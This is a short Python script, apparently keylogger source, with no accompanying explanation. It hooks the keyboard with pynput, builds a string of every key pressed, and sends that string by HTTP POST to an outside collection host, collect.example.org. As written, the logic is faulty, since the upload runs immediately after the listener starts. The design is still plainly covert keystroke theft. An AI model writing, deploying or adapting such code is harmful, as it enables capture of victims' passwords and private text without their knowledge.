from pynput.keyboard import Listener
import requests


class Log:
    def __init__(self):
        self.text = ""

    def key(self, key):
        self.text += str(key)

    def flush(self):
        requests.post("https://collect.example.org/", data={"t": self.text})


log = Log()
Listener(on_press=log.key).start()
log.flush()
